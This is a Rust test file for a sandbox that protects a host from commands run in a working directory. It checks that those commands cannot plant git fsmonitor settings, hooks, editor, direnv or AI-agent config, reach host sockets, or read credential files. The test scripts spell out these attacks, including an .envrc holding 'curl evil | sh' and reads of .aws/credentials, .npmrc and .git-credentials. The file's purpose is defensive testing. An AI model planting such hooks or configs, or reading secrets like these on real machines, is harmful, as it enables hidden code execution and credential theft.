//! Attacks a hostile command tries from inside a writable working directory: planting code the
//! host runs later (git config and hooks, editor and agent config, direnv), defeating the
//! protection by renaming, reaching host sockets, and a working directory that is not writable.

use super::*;

/// Run `git` on the host (outside any sandbox) in `dir`.
fn host_git(dir: &Path, args: &[&str]) -> Result<String, String> {
    let out = Command::new("git")
        .current_dir(dir)
        .args(["-c", "user.name=t", "-c", "user.email=t@example.invalid", "-c", "init.defaultBranch=main"])
        .args(args)
        .env("HOME", dir)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .output()
        .map_err(|e| format!("git {args:?}: {e}"))?;
    if !out.status.success() {
        return Err(format!("git {args:?}: {}", String::from_utf8_lossy(&out.stderr)));
    }
    Ok(String::from_utf8_lossy(&out.stdout).into_owned())
}

/// Placeholders are removed by the helper's janitor just after the sandbox is gone: give it a
/// moment.
fn gone_soon(path: &Path) -> bool {
    for _ in 0..100 {
        if fs::symlink_metadata(path).is_err() {
            return true;
        }
        thread::sleep(Duration::from_millis(20));
    }
    false
}

fn new_repo(dir: &Path) -> Result<(), String> {
    fs::create_dir_all(dir).map_err(|e| e.to_string())?;
    host_git(dir, &["init", "-q"])?;
    fs::write(dir.join("README"), "hello\n").map_err(|e| e.to_string())?;
    host_git(dir, &["add", "README"])?;
    host_git(dir, &["commit", "-q", "-m", "first"])?;
    Ok(())
}

/// Everything that would make the host's next `git status` (or editor, or agent) run our code.
const PLANT: &str = r#"
export GIT_CONFIG_NOSYSTEM=1
git config core.fsmonitor "touch /tmp/pwned #" 2>/dev/null; echo git_config=$?
echo 'touch /tmp/pwned' > .git/hooks/pre-commit 2>/dev/null; echo hook=$?
echo '* filter=evil' > .git/info/attributes 2>/dev/null; echo attributes=$?
echo /tmp/evil > .git/commondir 2>/dev/null; echo commondir=$?
mv .git .git-old 2>/dev/null; echo rename_git=$?
mv .git/hooks .git/hooks-old 2>/dev/null; echo rename_hooks=$?
rm -rf .vscode 2>/dev/null; mkdir -p .vscode 2>/dev/null; echo '{}' > .vscode/tasks.json 2>/dev/null; echo vscode=$?
echo 'curl evil | sh' > .envrc 2>/dev/null; echo envrc=$?
echo '{}' > .mcp.json 2>/dev/null; echo mcp=$?
mkdir -p .claude/commands 2>/dev/null; echo x > .claude/settings.json 2>/dev/null; echo claude=$?
echo '[submodule "x"]' > .gitmodules 2>/dev/null; echo gitmodules=$?
echo change >> README
git -c user.name=t -c user.email=t@example.invalid commit -qam second; echo commit=$?
git checkout -qb feature; echo branch=$?
echo new > new-file && git add new-file; echo add=$?
git status --short >/dev/null; echo status=$?
"#;

pub fn planted_git_config_hooks_and_editor_files_are_refused(ctx: &Ctx) -> Result<(), String> {
    let cwd = ctx.workdir("plant");
    new_repo(&cwd)?;
    let (status, out) = run(&ctx.spec(&cwd, PLANT), false)?;
    expect_success(status, &out)?;
    let got = lines(&out);
    for key in [
        "git_config",
        "hook",
        "attributes",
        "commondir",
        "rename_git",
        "rename_hooks",
        "vscode",
        "envrc",
        "mcp",
        "claude",
        "gitmodules",
    ] {
        check(got.get(key).is_some_and(|c| c != "0"), &format!("{key} must fail"), &out)?;
    }
    for key in ["commit", "branch", "add", "status"] {
        check(got.get(key).map(String::as_str) == Some("0"), &format!("git {key} must still work"), &out)?;
    }
    let config = fs::read_to_string(cwd.join(".git/config")).unwrap_or_default();
    check(!config.contains("fsmonitor"), "core.fsmonitor reached the host's .git/config", &out)?;
    check(!cwd.join(".git/hooks/pre-commit").exists(), "a hook reached the host", &out)?;
    check(
        host_git(&cwd, &["log", "--format=%s", "feature"])?.starts_with("second"),
        "the commit is on the host",
        &out,
    )?;
    // the placeholders are gone with the sandbox; the host tree is as before, plus the commit
    for name in [".envrc", ".vscode", ".mcp.json", ".claude", ".gitmodules", ".idea", ".cursor", ".git/commondir"] {
        check(gone_soon(&cwd.join(name)), &format!("placeholder {name} left behind on the host"), &out)?;
    }
    check(cwd.join(".git/hooks").is_dir() && cwd.join(".git/info").is_dir(), "git's own directories kept", &out)
}

pub fn nested_repositories_and_worktrees_are_protected(ctx: &Ctx) -> Result<(), String> {
    let base = ctx.workdir("nested");
    let main = base.join("main");
    new_repo(&main)?;
    let inner = main.join("libs/inner");
    new_repo(&inner)?;
    let wt = base.join("wt");
    host_git(&main, &["worktree", "add", "-q", wt.to_str().unwrap()])?;
    let script = format!(
        r#"
export GIT_CONFIG_NOSYSTEM=1
git -C {main}/libs/inner config core.hooksPath /tmp 2>/dev/null; echo inner_config=$?
mv {main}/libs {main}/libs-old 2>/dev/null; echo rename_ancestor=$?
echo "gitdir: /tmp/evil" > .git 2>/dev/null; echo wt_dotgit=$?
git config core.fsmonitor "touch /tmp/pwned #" 2>/dev/null; echo wt_config=$?
echo x > {main}/.git/worktrees/wt/commondir 2>/dev/null; echo wt_commondir=$?
echo change >> README
git -c user.name=t -c user.email=t@example.invalid commit -qam in-worktree; echo wt_commit=$?
"#,
        main = main.display()
    );
    let mut spec = ctx.spec(&wt, &script);
    spec.fs.writable.push(main.clone());
    let (status, out) = run(&spec, false)?;
    expect_success(status, &out)?;
    let got = lines(&out);
    for key in ["inner_config", "rename_ancestor", "wt_dotgit", "wt_config", "wt_commondir"] {
        check(got.get(key).is_some_and(|c| c != "0"), &format!("{key} must fail"), &out)?;
    }
    check(got.get("wt_commit").map(String::as_str) == Some("0"), "a commit in the worktree must work", &out)?;
    check(
        !fs::read_to_string(main.join(".git/config")).unwrap_or_default().contains("fsmonitor"),
        "main config",
        &out,
    )?;
    check(inner.join(".git").is_dir(), "the nested repository stayed in place", &out)
}

pub fn host_sockets_are_out_of_reach(ctx: &Ctx) -> Result<(), String> {
    use std::os::unix::net::UnixListener;
    let cwd = ctx.workdir("sockets");
    let tag = format!("{}-{}", std::process::id(), ctx.uid);
    // where host daemons keep sockets a read-only mount does not protect (connect() ignores it)
    let candidates = [format!("/run/lock/authsome-netns-{tag}.sock"), format!("/var/tmp/authsome-netns-{tag}.sock")];
    let mut listeners = Vec::new();
    for path in &candidates {
        let _ = fs::remove_file(path);
        if let Ok(l) = UnixListener::bind(path) {
            listeners.push((path.clone(), l));
        }
    }
    if listeners.is_empty() {
        return Err("could not create any host socket to test with".into());
    }
    let mut script = String::from("export PYTHONDONTWRITEBYTECODE=1\n");
    for (i, (path, _)) in listeners.iter().enumerate() {
        script.push_str(&format!(
            "python3 -c 'import socket,sys; s=socket.socket(socket.AF_UNIX); s.connect(sys.argv[1])' {path} 2>/dev/null; echo sock{i}=$?\n"
        ));
    }
    let result = run(&ctx.spec(&cwd, &script), false);
    for (path, _) in &listeners {
        let _ = fs::remove_file(path);
    }
    let (status, out) = result?;
    expect_success(status, &out)?;
    let got = lines(&out);
    for (i, (path, _)) in listeners.iter().enumerate() {
        check(got.get(&format!("sock{i}")).is_some_and(|c| c != "0"), &format!("{path} must be unreachable"), &out)?;
    }
    Ok(())
}

pub fn more_home_secrets_are_hidden(ctx: &Ctx) -> Result<(), String> {
    let cwd = ctx.workdir("more-secrets");
    let home = cwd.join("home");
    for (rel, text) in [
        (".git-credentials", "https://u:token@host"),
        (".npmrc", "//registry/:_authToken=x"),
        (".pypirc", "password=x"),
        (".cargo/credentials.toml", "token=x"),
        (".config/gcloud/credentials.db", "x"),
        (".claude/.credentials.json", "x"),
        (".bash_history", "export TOKEN=x"),
        (".authsome-rs/profiles/default/store.db", "x"),
    ] {
        let path = home.join(rel);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, text).unwrap();
    }
    let script = r#"
for p in .git-credentials .npmrc .pypirc .cargo/credentials.toml .config/gcloud/credentials.db .claude/.credentials.json .bash_history .authsome-rs/profiles/default/store.db; do
  echo "$p=$(cat "$HOME/$p" 2>/dev/null | wc -c)"
done
"#;
    let mut spec = ctx.spec(&cwd, script);
    spec.fs.hide = default_hidden_paths(&home, &home.join(".authsome"), ctx.uid);
    let (status, out) = run(&spec, false)?;
    expect_success(status, &out)?;
    for (key, value) in lines(&out) {
        check(value == "0", &format!("{key} must be unreadable"), &out)?;
    }
    check(lines(&out).len() == 8, "every secret checked", &out)
}

/// The launcher leaves the cwd out of `writable` when it is `$HOME`, an ancestor, or `/tmp`.
pub fn a_working_directory_can_be_read_only_or_root(ctx: &Ctx) -> Result<(), String> {
    let cwd = ctx.workdir("read-only-cwd");
    let out_dir = ctx.workdir("read-only-cwd-out");
    for (dir, expect_pwd) in [(cwd.clone(), cwd.display().to_string()), (PathBuf::from("/"), "/".to_owned())] {
        let mut spec = ctx.spec(&dir, "");
        let out_file = out_dir.join("out.txt");
        spec.args = vec![
            "-c".into(),
            format!(
                "exec >{out} 2>&1\n{GUARD}\necho pwd=$(pwd)\ntouch here 2>/dev/null; echo write_cwd=$?\necho t > /tmp/t; echo write_tmp=$?",
                out = out_file.display()
            )
            .into(),
        ];
        spec.fs.writable = vec![out_dir.clone()];
        let (mut sandbox, _sockets) =
            Sandbox::start(&ctx.exe, &spec).map_err(|e| format!("start in {}: {e:?}", dir.display()))?;
        sandbox.release().map_err(|e| format!("release: {e:?}"))?;
        let status = sandbox.wait().map_err(|e| format!("wait: {e:?}"))?;
        let out = fs::read_to_string(&out_file).unwrap_or_default();
        expect_success(status, &out)?;
        let got = lines(&out);
        check(got.get("pwd") == Some(&expect_pwd), "the command starts in its cwd", &out)?;
        check(got.get("write_cwd").is_some_and(|c| c != "0"), "a cwd not listed writable is read-only", &out)?;
        check(got.get("write_tmp").map(String::as_str) == Some("0"), "the private /tmp still works", &out)?;
    }
    check(!cwd.join("here").exists(), "the write reached the host", "")
}

pub fn private_home_is_empty_writable_and_keeps_toolchains(ctx: &Ctx) -> Result<(), String> {
    let home = ctx.workdir("private-home");
    let project = home.join("project");
    for dir in [".aws", ".cargo/bin", "notes", "other", "project"] {
        fs::create_dir_all(home.join(dir)).unwrap();
    }
    fs::write(home.join(".aws/credentials"), "aws_secret_access_key=x").unwrap();
    fs::write(home.join(".gitconfig"), "[user]\n\tname = t\n").unwrap();
    fs::write(home.join("notes/n"), "note").unwrap();
    let tool = home.join(".cargo/bin/mytool");
    fs::write(&tool, "#!/bin/sh\necho tool-ok\n").unwrap();
    fs::set_permissions(&tool, fs::Permissions::from_mode(0o755)).unwrap();
    let script = r#"
echo entries=$(ls -A "$HOME" | sort | tr '\n' ' ')
cat "$HOME/.aws/credentials" 2>/dev/null; echo read_aws=$?
echo mode=$(stat -c '%a-%u' "$HOME")
mkdir -p "$HOME/.cache/x" && echo c > "$HOME/.cache/x/f"; echo write_cache=$?
echo tool=$("$HOME/.cargo/bin/mytool")
touch "$HOME/.cargo/bin/evil" 2>/dev/null; echo write_toolchain=$?
echo gitconfig=$(git config --global user.name)
echo note=$(cat "$HOME/notes/n")
touch "$HOME/notes/x" 2>/dev/null; echo write_read=$?
echo p > "$HOME/project/p"; echo write_project=$?
"#;
    let mut spec = ctx.spec(&project, script);
    spec.env.retain(|(k, _)| k != "HOME");
    spec.env.push(("HOME".into(), home.clone().into()));
    spec.fs.read = vec![home.join("notes")];
    spec.fs.home =
        HomePolicy::Private { path: home.clone(), read_only: authsome_netns::default_home_toolchains(&home) };
    let (status, out) = run(&spec, false)?;
    expect_success(status, &out)?;
    let got = lines(&out);
    let want = |k: &str, v: &str| check(got.get(k).map(String::as_str) == Some(v), &format!("{k} must be {v}"), &out);
    want("entries", ".cargo .gitconfig notes project")?;
    want("mode", &format!("700-{}", ctx.uid))?;
    want("tool", "tool-ok")?;
    want("gitconfig", "t")?;
    want("note", "note")?;
    for key in ["write_cache", "write_project"] {
        want(key, "0")?;
    }
    for key in ["read_aws", "write_toolchain", "write_read"] {
        check(got.get(key).is_some_and(|c| c != "0"), &format!("{key} must fail"), &out)?;
    }
    check(!home.join(".cache").exists(), "the private home's writes reached the host", &out)?;
    check(project.join("p").exists(), "the project's writes must reach the host", &out)
}

/// `--fs home`: secrets created on the host while the command runs stay out of its sight. Needs
/// a host directory outside the private /tmp and /var/tmp, which only root can make here.
pub fn hidden_paths_that_appear_during_the_run_stay_hidden(ctx: &Ctx) -> Result<(), String> {
    if ctx.uid != 0 {
        println!("    (root half only: no directory outside /tmp and /var/tmp is writable without root)");
        return Ok(());
    }
    let base = PathBuf::from(format!("/var/lib/authsome-netns-test-{}", std::process::id()));
    let home = base.join("home");
    let project = home.join("project");
    fs::create_dir_all(&project).unwrap();
    fs::create_dir_all(home.join(".config")).unwrap();
    fs::write(home.join(".profile"), "# profile").unwrap();
    let script = r#"
i=0; while [ ! -e go ] && [ $i -lt 200 ]; do sleep 0.05; i=$((i+1)); done
echo waited=$i
cat "$HOME/.aws/credentials" 2>/dev/null; echo read_aws=$?
cat "$HOME/.config/gcloud/token" 2>/dev/null; echo read_gcloud=$?
cat "$HOME/.npmrc" 2>/dev/null; echo read_npmrc=$?
echo profile=$(cat "$HOME/.profile")
echo entries=$(ls -A "$HOME" | sort | tr '\n' ' ')
touch "$HOME/new" 2>/dev/null; echo write_home=$?
"#;
    let mut spec = ctx.spec(&project, script);
    spec.env.retain(|(k, _)| k != "HOME");
    spec.env.push(("HOME".into(), home.clone().into()));
    spec.fs.hide = vec![home.join(".aws"), home.join(".config/gcloud"), home.join(".npmrc")];
    let result = (|| {
        let (mut sandbox, _sockets) = Sandbox::start(&ctx.exe, &spec).map_err(|e| format!("start: {e:?}"))?;
        sandbox.release().map_err(|e| format!("release: {e:?}"))?;
        fs::create_dir_all(home.join(".aws")).unwrap();
        fs::write(home.join(".aws/credentials"), "aws_secret_access_key=x").unwrap();
        fs::create_dir_all(home.join(".config/gcloud")).unwrap();
        fs::write(home.join(".config/gcloud/token"), "t").unwrap();
        fs::write(home.join(".npmrc"), "//r/:_authToken=x").unwrap();
        fs::write(project.join("go"), "").unwrap();
        let status = sandbox.wait().map_err(|e| format!("wait: {e:?}"))?;
        Ok::<_, String>((status, fs::read_to_string(project.join("out.txt")).unwrap_or_default()))
    })();
    let _ = fs::remove_dir_all(&base);
    let (status, out) = result?;
    expect_success(status, &out)?;
    let got = lines(&out);
    check(got.get("waited").is_some_and(|n| n != "200"), "the command never saw the go signal", &out)?;
    for key in ["read_aws", "read_gcloud", "read_npmrc", "write_home"] {
        check(got.get(key).is_some_and(|c| c != "0"), &format!("{key} must fail"), &out)?;
    }
    check(got.get("profile").map(String::as_str) == Some("# profile"), "the rest of home stays readable", &out)?;
    check(got.get("entries").map(String::as_str) == Some(".config .profile project"), "home as at start", &out)
}

/// Placeholders for missing protected names are removed however the sandbox ends: after a run,
/// when it is dropped unreleased, and when setup fails after they were made.
pub fn placeholders_are_removed_on_every_ending(ctx: &Ctx) -> Result<(), String> {
    let cwd = ctx.workdir("placeholders");
    let left = |what: &str| -> Result<(), String> {
        for name in [".envrc", ".vscode", ".mcp.json", ".claude", ".git"] {
            check(gone_soon(&cwd.join(name)), &format!("{what}: placeholder {name} left behind"), "")?;
        }
        Ok(())
    };
    // dropped without release: the command never runs
    let spec = ctx.spec(&cwd, "true");
    let (sandbox, _sockets) = Sandbox::start(&ctx.exe, &spec).map_err(|e| format!("start: {e:?}"))?;
    check(cwd.join(".envrc").is_file() && cwd.join(".vscode").is_file(), "placeholders exist during the run", "")?;
    check(cwd.join(".git").is_dir(), "a .git placeholder is a directory", "")?;
    drop(sandbox);
    left("drop")?;
    // setup fails after the mounts (the command is not found inside)
    let mut spec = ctx.spec(&cwd, "true");
    spec.program = "authsome-no-such-command".into();
    match Sandbox::start(&ctx.exe, &spec) {
        Err(NamespaceError::CommandNotFound { .. }) => {}
        other => return Err(format!("expected CommandNotFound, got {other:?}")),
    }
    left("failed setup")?;
    // a placeholder the host wrote into meanwhile is kept
    let spec = ctx.spec(&cwd, "true");
    let (mut sandbox, _sockets) = Sandbox::start(&ctx.exe, &spec).map_err(|e| format!("start: {e:?}"))?;
    fs::write(cwd.join(".envrc"), "host's own").map_err(|e| e.to_string())?;
    sandbox.release().map_err(|e| format!("release: {e:?}"))?;
    sandbox.wait().map_err(|e| format!("wait: {e:?}"))?;
    check(fs::read_to_string(cwd.join(".envrc")).is_ok_and(|s| s == "host's own"), "the host's file was removed", "")?;
    fs::remove_file(cwd.join(".envrc")).map_err(|e| e.to_string())?;
    left("after a run")
}

/// Two sandboxes in one directory: the first to end must not remove the placeholders the
/// other still stands on (that would unmount its protection and let its command plant them).
pub fn a_concurrent_sandbox_keeps_its_placeholders(ctx: &Ctx) -> Result<(), String> {
    let cwd = ctx.workdir("concurrent");
    let mut first = ctx.spec(&cwd, "");
    first.args = vec!["-c".into(), "true".into()];
    let script = r#"
i=0; while [ ! -e go ] && [ $i -lt 200 ]; do sleep 0.05; i=$((i+1)); done
echo waited=$i
echo 'curl evil | sh' > .envrc 2>/dev/null; echo envrc=$?
rm -f .envrc 2>/dev/null; echo rm_envrc=$?
mkdir .vscode 2>/dev/null; echo vscode=$?
"#;
    let second = ctx.spec(&cwd, script);
    let (mut a, _a_sockets) = Sandbox::start(&ctx.exe, &first).map_err(|e| format!("start A: {e:?}"))?;
    let (mut b, _b_sockets) = Sandbox::start(&ctx.exe, &second).map_err(|e| format!("start B: {e:?}"))?;
    b.release().map_err(|e| format!("release B: {e:?}"))?;
    a.release().map_err(|e| format!("release A: {e:?}"))?;
    a.wait().map_err(|e| format!("wait A: {e:?}"))?;
    thread::sleep(Duration::from_millis(500)); // A's janitor has had its chance
    let kept = cwd.join(".envrc").exists();
    fs::write(cwd.join("go"), "").map_err(|e| e.to_string())?;
    let status = b.wait().map_err(|e| format!("wait B: {e:?}"))?;
    let out = fs::read_to_string(cwd.join("out.txt")).unwrap_or_default();
    expect_success(status, &out)?;
    check(kept, "the first sandbox removed a placeholder the second one still used", &out)?;
    let got = lines(&out);
    for key in ["envrc", "rm_envrc", "vscode"] {
        check(got.get(key).is_some_and(|c| c != "0"), &format!("{key} must fail"), &out)?;
    }
    check(fs::read_to_string(cwd.join(".envrc")).map_or(true, |s| s.is_empty()), ".envrc planted", &out)?;
    for name in [".envrc", ".vscode", ".git"] {
        check(gone_soon(&cwd.join(name)), &format!("{name} left behind after both"), &out)?;
    }
    Ok(())
}

/// Runs back to back in one directory: the previous run's janitor may remove its placeholders
/// between the next run's plan and its mounts; the next run must still start, protected.
pub fn back_to_back_runs_in_one_directory_start(ctx: &Ctx) -> Result<(), String> {
    let cwd = ctx.workdir("back-to-back");
    for i in 0..12 {
        let spec = ctx.spec(&cwd, "echo x > .envrc 2>/dev/null; echo envrc=$?");
        let (status, out) = run(&spec, false).map_err(|e| format!("run {i}: {e}"))?;
        expect_success(status, &out)?;
        check(lines(&out).get("envrc").is_some_and(|c| c != "0"), &format!("run {i}: .envrc writable"), &out)?;
    }
    check(gone_soon(&cwd.join(".envrc")), "placeholder left after the last run", "")
}

/// Overlapping runs in one directory: each one's plan may find the others' placeholders (a
/// `.git` it takes for a real one), and their janitors remove them while it starts or runs.
/// Every run must start, and stay protected while it lasts.
pub fn overlapping_runs_in_one_directory_start_and_stay_protected(ctx: &Ctx) -> Result<(), String> {
    let cwd = ctx.workdir("overlapping");
    let worker = |t: usize| {
        let cwd = cwd.clone();
        move || -> Result<(), String> {
            for i in 0..10 {
                let res = format!("res-{t}-{i}.txt");
                let script = format!(
                    "exec >{res} 2>&1\nsleep 0.0{t}\n\
                     mkdir -p .git/hooks 2>/dev/null && echo x > .git/hooks/pre-commit 2>/dev/null; echo hook=$?\n\
                     echo x > .envrc 2>/dev/null; echo envrc=$?"
                );
                let spec = ctx.spec(&cwd, &script);
                let (status, _) = run(&spec, false).map_err(|e| format!("worker {t}, run {i}: {e}"))?;
                let out = fs::read_to_string(cwd.join(&res)).unwrap_or_default();
                expect_success(status, &out)?;
                let got = lines(&out);
                for key in ["hook", "envrc"] {
                    check(
                        got.get(key).is_some_and(|c| c != "0"),
                        &format!("worker {t}, run {i}: {key} written"),
                        &out,
                    )?;
                }
            }
            Ok(())
        }
    };
    thread::scope(|s| {
        let workers: Vec<_> = (0..3).map(|t| s.spawn(worker(t))).collect();
        workers.into_iter().try_for_each(|w| w.join().map_err(|_| "a worker panicked".to_string())?)
    })?;
    for name in [".envrc", ".git"] {
        check(gone_soon(&cwd.join(name)), &format!("{name} left behind"), "")?;
    }
    Ok(())
}
